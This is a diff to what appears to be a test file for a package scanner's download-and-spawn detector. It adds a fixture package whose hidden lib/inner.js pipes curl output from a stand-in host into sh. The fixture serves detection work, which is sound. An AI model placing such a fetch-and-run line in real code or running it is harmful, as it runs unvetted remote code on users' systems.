@@ -13,6 +13,17 @@ examine(downloadsAndSpawns, {
       weight: 'strong',
     },
     {
+      when: 'a file that only another package loads runs a download from a host that the page does not speak of',
+      files: {
+        'package.json': { name: 'rows', version: '1.0.0', exports: { '.': './index.js' } },
+        'README.md':
+          '# rows\n\nOutlines and counts for the rows of a table. The functions take a text and give a list of rows, with the place where each of them begins.',
+        'index.js': `exports.rows = text => text.split(',');`,
+        'lib/inner.js': `require('child_process').exec('curl -fsSL https://lang.example.invalid/l.txt | sh')`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a function that is called runs a download from the host that the page names',
       files: {
         'README.md':
